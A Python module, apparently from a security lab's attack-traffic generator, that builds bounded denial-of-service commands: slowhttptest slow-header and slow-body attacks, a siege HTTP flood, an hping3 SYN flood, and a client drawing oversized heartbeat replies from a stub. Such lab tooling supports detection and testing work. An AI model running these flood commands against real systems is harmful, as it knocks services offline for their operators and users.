"""Denial of service within bounds: slow headers, slow body, an HTTP flood, a SYN flood, oversized heartbeat answers."""

from __future__ import annotations

import sys

from lab.attacks.attack import Attack, Behaviour, Stage
from lab.command import Command
from lab.services.stubs import HEARTBEAT_PORT


def slow_headers(stage: Stage) -> Attack:
    """60 connections, 12 a second, for 20 seconds."""
    return _slow(stage, "slow_headers", "-H", "/")


def slow_body(stage: Stage) -> Attack:
    """60 connections, 12 a second, for 20 seconds."""
    return _slow(stage, "slow_body", "-B", "/app/login")


def http_flood(stage: Stage) -> Attack:
    """400 requests, a connection each, ten at a time, for 20 seconds at most."""
    target = stage.target("web", 80)
    page = stage.rng.randrange(20)
    bounds = ("-c", "10", "-r", "40", "-d", "0.2")
    argv = ("siege", "-q", *bounds, f"http://{target.address}/page/{page}.html")
    return Attack(
        label="http_flood", source=stage.source, targets=(target,), strands=((Command(argv=argv, seconds=20),),)
    )


def syn_flood(stage: Stage) -> Attack:
    """800 packets from the attacker's own address, at most 160 a second."""
    target = stage.target("web", 443)
    argv = ("hping3", "-q", "-n", "-S", "-p", "443", "-c", "800", "-i", "u6200", target.address)
    return Attack(
        label="syn_flood", source=stage.source, targets=(target,), strands=((Command(argv=argv, seconds=15),),)
    )


def heartbeat(stage: Stage) -> Attack:
    """12 connections to a stub, three requests each, answered by 64 KiB of one letter."""
    target = stage.target("web", HEARTBEAT_PORT)
    client = (sys.executable, "-m", "lab.attacks.client", stage.site.name, "heartbeat", target.address)
    argv = (*client, str(target.port), "12")
    return Attack(
        label="heartbeat", source=stage.source, targets=(target,), strands=((Command(argv=argv, seconds=20),),)
    )


def _slow(stage: Stage, label: str, kind: str, path: str) -> Attack:
    target = stage.target("web", 80)
    bounds = ("-c", "60", "-r", "12", "-i", "4", "-l", "20", "-x", "20", "-p", "2")
    argv = ("slowhttptest", kind, *bounds, "-u", f"http://{target.address}{path}")
    return Attack(label=label, source=stage.source, targets=(target,), strands=((Command(argv=argv, seconds=30),),))


FLOODS: dict[str, Behaviour] = {
    "slow_headers": slow_headers, "slow_body": slow_body, "http_flood": http_flood, "syn_flood": syn_flood,
    "heartbeat": heartbeat,
}  # fmt: skip
